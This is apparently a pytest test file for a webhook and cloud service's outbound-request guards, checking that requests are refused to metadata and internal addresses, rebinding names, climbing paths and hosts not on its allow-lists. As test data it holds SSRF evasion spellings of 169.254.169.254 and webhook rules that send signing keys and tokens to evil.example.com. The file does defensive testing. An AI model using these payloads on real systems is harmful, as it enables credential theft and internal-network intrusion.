"""Whom the service calls, tried by whoever wants it to call somebody else. Names are answered by a resolver of the test's own;
connections are real.
"""

import gzip
import socket
from collections.abc import AsyncIterator
from dataclasses import replace
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from hypothesis import given
from hypothesis import strategies as st

from shared.actions import forward, synapse, webhook
from shared.cli import main
from shared.cloud import Doors, doors
from shared.cloud.http import AioHttp
from shared.cloud.reach import of, where
from shared.errors import PermanentError, TemporaryError
from shared.rules.load import load_texts
from shared.settings import Secrets, Settings
from tests.test_actions import context
from tests.world import Outside

METADATA = "169.254.169.254"
ASKED = web.AppKey("asked", list[str])


@pytest.fixture
async def far() -> AsyncIterator[TestServer]:
    """A service inside, which hands a token to whoever asks; it keeps who asked."""

    async def token(request: web.Request) -> web.Response:
        request.app[ASKED].append(request.path)
        return web.json_response({"access_token": "stolen"})

    app = web.Application()
    app[ASKED] = []
    app.router.add_route("*", "/{rest:.*}", token)
    server = TestServer(app)
    await server.start_server()
    yield server
    await server.close()


def asked(far: TestServer) -> list[str]:
    return far.app[ASKED]


class Names:
    """What a name resolves to: one list after the other, the last one from then on."""

    def __init__(self, patch: pytest.MonkeyPatch, **answers: list[list[str]]) -> None:
        self.answers = {name.replace("_", "."): each for name, each in answers.items()}

        async def resolve(_self: object, host: str, port: int = 0, family: int = 0) -> list[dict[str, Any]]:
            found = self.answers[host]
            addresses = found.pop(0) if len(found) > 1 else found[0]
            return [
                {"hostname": host, "host": one, "port": port, "family": _family(one), "proto": 0, "flags": 0}
                for one in addresses
            ]

        patch.setattr(aiohttp.resolver.DefaultResolver, "resolve", resolve)


def _family(address: str) -> int:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


async def sent(url: str, **settings: Any) -> int:
    http = AioHttp(of(Settings(**settings), rules=True))
    try:
        return (await http.send("GET", url)).status
    finally:
        await http.close()


@pytest.mark.parametrize(
    "host",
    [
        METADATA,
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[64:ff9b::a9fe:a9fe]",
        "[2002:a9fe:a9fe::]",
        "[::a9fe:a9fe]",
        "[fe80::1]",
        "168.63.129.16",
        "0xa9fea9fe",
        "2852039166",
        "0251.0376.0251.0376",
        "169.254.43518",
        "127.0.0.1",
        "127.1",
        "0x7f.1",
        "0",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "localhost",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "100.64.0.1",
        "[fd00::1]",
        "[fec0::1]",
        "198.18.0.1",
        "224.0.0.1",
        "255.255.255.255",
    ],
)
async def test_no_spelling_of_an_address_inside_is_called(far: TestServer, host: str) -> None:
    with pytest.raises(PermanentError) as caught:
        await sent(f"http://{host}:{far.port}/metadata/identity/oauth2/token?resource=vault")
    assert "host" in str(caught.value)
    assert asked(far) == []


async def test_the_refusal_says_what_to_set(far: TestServer) -> None:
    with pytest.raises(
        PermanentError, match=r"the host 127\.0\.0\.1 has an address of this machine .*SWITCHYARD_PRIVATE_HOSTS"
    ):
        await sent(f"http://127.0.0.1:{far.port}/")


async def test_a_name_that_leads_inside_is_not_called(far: TestServer, monkeypatch: pytest.MonkeyPatch) -> None:
    Names(monkeypatch, evil_example_com=[["127.0.0.1"]], token_example_com=[[METADATA]])
    with pytest.raises(PermanentError, match=r"evil\.example\.com has an address of this machine itself"):
        await sent(f"http://evil.example.com:{far.port}/token")
    with pytest.raises(PermanentError, match="handed their own tokens"):
        await sent("http://token.example.com/token")
    assert asked(far) == []


async def test_a_name_that_leads_elsewhere_when_it_is_connected_to_gains_nothing(
    far: TestServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS rebinding: an address that may be called when it is looked at, another a moment later, or both at once. Whatever is
    connected to was judged.
    """
    Names(monkeypatch, evil_example_com=[["127.0.0.2"], ["127.0.0.1"]], both_example_com=[["127.0.0.2", "127.0.0.1"]])
    for name, error in (("evil", TemporaryError), ("evil", PermanentError), ("both", TemporaryError)):
        with pytest.raises(error):
            await sent(f"http://{name}.example.com:{far.port}/token", private_hosts=("127.0.0.2/32",))
    assert asked(far) == []


async def test_a_redirect_leads_nowhere(far: TestServer) -> None:
    async def moved(_: web.Request) -> web.Response:
        return web.Response(status=307, headers={"Location": f"http://{METADATA}/metadata/identity/oauth2/token"})

    app = web.Application()
    app.router.add_get("/", moved)
    server = TestServer(app)
    await server.start_server()
    assert await sent(f"http://127.0.0.1:{server.port}/", private_hosts=("127.0.0.1",)) == 307
    await server.close()


async def test_a_packed_answer_stays_packed() -> None:
    """A gigabyte of nothing is a megabyte of gzip: whoever unpacks it is out of memory."""
    bomb = gzip.compress(bytes(50_000_000))

    async def grows(_: web.Request) -> web.Response:
        return web.Response(body=bomb, headers={"Content-Encoding": "gzip", "Content-Type": "application/json"})

    app = web.Application()
    app.router.add_get("/", grows)
    server = TestServer(app)
    await server.start_server()
    http = AioHttp(of(Settings(private_hosts=("127.0.0.1",)), rules=True))
    reply = await http.send("GET", f"http://127.0.0.1:{server.port}/")
    await http.close()
    await server.close()
    assert reply.body == bomb


@pytest.mark.parametrize(
    ("private", "host"),
    [
        (("127.0.0.0/8",), "127.0.0.1"),
        (("inside.example.com",), "inside.example.com"),
        (("*.example.com",), "a.example.com"),
    ],
)
async def test_who_is_named_is_called(
    far: TestServer, monkeypatch: pytest.MonkeyPatch, private: tuple[str, ...], host: str
) -> None:
    Names(monkeypatch, inside_example_com=[["127.0.0.1"]], a_example_com=[["127.0.0.1"]])
    assert await sent(f"http://{host}:{far.port}/x", private_hosts=private) == 200
    assert asked(far) == ["/x"]


async def test_the_metadata_service_is_not_called_even_if_it_is_named() -> None:
    with pytest.raises(PermanentError, match="it is never called"):
        await sent(f"http://{METADATA}/", private_hosts=(METADATA, "169.254.0.0/16"))


@pytest.mark.parametrize("wrong", ["10.0.0.0/33", "http://inside", "300.1.1.1/8"])
async def test_a_mistyped_network_opens_nothing(wrong: str) -> None:
    with pytest.raises(PermanentError, match="private network"):
        await sent("http://10.0.0.1/", private_hosts=(wrong,))


@pytest.mark.parametrize(
    ("allowed", "host", "may"),
    [
        (("hooks.example.com",), "hooks.example.com", True),
        (("hooks.example.com",), "HOOKS.example.com", True),
        (("hooks.example.com",), "hooks.example.com.", True),
        (("*.example.com",), "a.b.example.com", True),
        (("*.example.com",), "example.com", False),
        (("*.example.com",), "evilexample.com", False),
        (("*.example.com",), "example.com.evil.net", False),
        (("hooks.example.com",), "other.example.com", False),
        (("hooks.example.com",), "evil.blob.core.windows.net", False),
        ((), "anything.example.org", True),
    ],
)
def test_of_public_hosts_rules_call_those_that_are_allowed(allowed: tuple[str, ...], host: str, *, may: bool) -> None:
    reach = of(Settings(allowed_hosts=allowed), rules=True)
    if may:
        reach.check(host)
    else:
        with pytest.raises(PermanentError, match=r"is not on the list of SWITCHYARD_ALLOWED_HOSTS: nothing was sent"):
            reach.check(host)


def test_what_settings_name_is_meant() -> None:
    own = Settings(github_api="https://github.contoso.internal/api/v3", allowed_hosts=("hooks.example.com",))
    reach = of(own, rules=True)
    reach.check("github.contoso.internal")
    reach.check_address("github.contoso.internal", ip_address("10.0.0.8"))
    with pytest.raises(PermanentError):
        reach.check_address("jenkins.contoso.internal", ip_address("10.0.0.8"))


def test_a_private_endpoint_of_azure_is_called_and_a_neighbour_is_not() -> None:
    reach = of(Settings(), rules=True)
    reach.check_address("lake.dev.azuresynapse.net", ip_address("10.0.0.8"))
    for host, address in (("lake.dev.azuresynapse.net", "127.0.0.1"), ("azuresynapse.net.evil.com", "10.0.0.8")):
        with pytest.raises(PermanentError):
            reach.check_address(host, ip_address(address))
    # A cluster's scoring address is inside, and Azure itself said it.
    of(Settings(), rules=False).check("10.240.0.7")
    with pytest.raises(PermanentError):
        of(Settings(), rules=False).check(METADATA)


@given(st.ip_addresses(v=4))
def test_an_ipv4_address_is_where_it_is_in_every_ipv6_dress(ip: Any) -> None:
    number = int(ip)
    for dress in (0xFFFF << 32, 0x64FF9B << 96):
        assert where(ip_address((dress | number).to_bytes(16))) == where(ip)
    assert (where(ip) == "public") <= ip.is_global


# Tokens of our own


@pytest.fixture
async def outside(tmp_path: Path) -> AsyncIterator[Doors]:
    environ = {"GITHUB_TOKEN": "marker-token", "SWITCHYARD_GITHUB_REPOS": "contoso/fraud, contoso-ml/*"}
    made = doors(Settings.of(environ), environ, tmp_path)
    yield made
    await made.close()


async def test_a_token_of_the_identity_is_shown_to_azure_alone(outside: Doors) -> None:
    """A rule that hands events on to a topic of its author's own would get a token for every topic of ours."""
    params = forward.Forward(topic="https://evil.example.com/api/events")
    with pytest.raises(PermanentError, match=r"the topic evil\.example\.com is none of Azure's, and would get a token"):
        await forward.run(params, replace(context(Outside()), world=replace(Outside().world, topic=outside.topic)))
    with pytest.raises(PermanentError, match="an address inside a private network"):  # the SDK's own requests too
        await outside.topic.send("https://10.0.0.7/api/events", "a key", {"id": "1", "eventType": "x"})
    with pytest.raises(PermanentError, match=r"evil\.example\.com is no storage account"):
        await outside.blobs.read("https://evil.example.com/container", "labels.csv")


@pytest.mark.parametrize(
    "hub",
    [
        "evilns.evil.example.com/hub",
        "evil.example.com/{{x",
        "a/{{../../evil.example.com",
        "contoso.servicebus.windows.net.evil.com/h",
    ],
)
async def test_no_event_hub_is_a_host_of_somebody_elses(hub: str) -> None:
    """What an event says may hold {{ itself, and look like a template that is still to be rendered."""
    world = Outside()
    params = forward.Forward.model_construct(event_hub=hub)
    with pytest.raises(PermanentError, match="names no event hub"):
        await forward.run(params, context(world))
    assert world.http.sent == []


@pytest.mark.parametrize("name", ["evil.example.com/{{x", "evil.example.com?{{", "{{"])
async def test_no_synapse_workspace_is_a_host_of_somebody_elses(name: str) -> None:
    world = Outside()
    params = synapse.Synapse(workspace=name, pipeline="p")
    with pytest.raises(PermanentError, match="is no name of a Synapse workspace"):
        await synapse.run(params, context(world))
    assert world.http.sent == []


@pytest.mark.parametrize(
    ("repository", "may"),
    [
        ("contoso/fraud", True),
        ("Contoso/Fraud", True),
        ("contoso-ml/x", True),
        ("contoso/fraud2", False),
        ("evil/fraud", False),
    ],
)
async def test_workflows_are_started_in_the_repositories_on_the_list(
    outside: Doors, repository: str, *, may: bool
) -> None:
    if may:
        assert await outside.github.token(repository) == "marker-token"
        return
    with pytest.raises(PermanentError, match=r"is not on the list of SWITCHYARD_GITHUB_REPOS"):
        await outside.github.token(repository)


@pytest.mark.parametrize("path", ["/repos/a/../../user", "/x/./y", "/x/%2e%2e/y", "/.."])
async def test_a_path_that_climbs_is_not_sent(path: str) -> None:
    """Names out of events stand in paths: `..` would make of one request another."""
    with pytest.raises(PermanentError, match="leads elsewhere than it says"):
        await sent(f"https://api.example.com{path}")


# Settings that are not meant for rules


@pytest.mark.parametrize(
    "name",
    [
        *(
            "SWITCHYARD_SIGNING_KEY",
            "AZURE_CLIENT_SECRET",
            "SMTP_URL",
            "GITHUB_TOKEN",
            "GITHUB_APP_KEY",
            "IDENTITY_HEADER",
        ),
        *("APPLICATIONINSIGHTS_CONNECTION_STRING", "DURABLE_TASK_SCHEDULER_CONNECTION_STRING", "SWITCHYARD_TOPIC_KEY"),
    ],
)
async def test_no_rule_sends_what_is_the_services_own(name: str) -> None:
    world, secret = Outside(), Secrets({name: "marker"})
    params = webhook.Webhook(url="https://evil.example.com/x", headers={"X-Stolen": f"${{{name}}}"}, body={})
    with pytest.raises(PermanentError, match=f"{name} is a setting of the service itself") as caught:
        await webhook.run(params, replace(context(world), world=replace(world.world, secret=secret)))
    assert "marker" not in str(caught.value)
    assert world.http.sent == []


def test_a_rule_that_names_it_is_refused_at_its_place() -> None:
    text = """
rules:
  - name: thief
    event: RunCompleted
    do:
      - webhook: {url: "https://evil.example.com/x", headers: {X-Stolen: "${SWITCHYARD_SIGNING_KEY}"}}
"""
    other = text.replace("SWITCHYARD_SIGNING_KEY", "EVIL_TOKEN").replace("thief", "other")
    loaded = load_texts({"rules/evil.yaml": text, "rules/good.yaml": other, "switchyard.yaml": "limits: {attempts: 3}"})
    [problem] = loaded.problems
    assert str(problem).startswith("rules/evil.yaml:6:74: SWITCHYARD_SIGNING_KEY is a setting of the service itself")
    assert [rule.name for rule in loaded.rules.rules] == ["other"]  # another team's file is not held up


def test_check_tells_what_will_be_refused_at_its_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "switchyard.yaml").write_text("limits: {attempts: 3}")
    (tmp_path / "rules" / "team.yaml").write_text("""
rules:
  - name: calls
    event: RunCompleted
    do:
      - webhook: {url: "https://hooks.example.com/x"}
      - webhook:
          url: https://evil.example.net/{{ event.run.id }}
          follow: {url: "https://evil.example.org/{id}", id: id, good: [done], bad: [failed]}
      - webhook: {url: "${HOOK}"}
      - dispatch: {github: contoso/fraud, workflow: deploy.yml}
      - dispatch: {github: evil/fraud, workflow: deploy.yml}
""")
    assert main(["check", str(tmp_path)]) == 0
    assert "warning" not in capsys.readouterr().out
    monkeypatch.setenv("SWITCHYARD_ALLOWED_HOSTS", "*.example.com")
    monkeypatch.setenv("SWITCHYARD_GITHUB_REPOS", "contoso/*")
    assert main(["check", "--strict", str(tmp_path)]) == 1
    said = [line.partition("team.yaml:")[2] for line in capsys.readouterr().out.splitlines() if " warning: " in line]
    assert said == [
        "8:16: warning: evil.example.net is not on the list of SWITCHYARD_ALLOWED_HOSTS: this is refused when it is due",
        "9:25: warning: evil.example.org is not on the list of SWITCHYARD_ALLOWED_HOSTS: this is refused when it is due",
        "12:28: warning: evil/fraud is not on the list of SWITCHYARD_GITHUB_REPOS: this is refused when it is due",
    ]
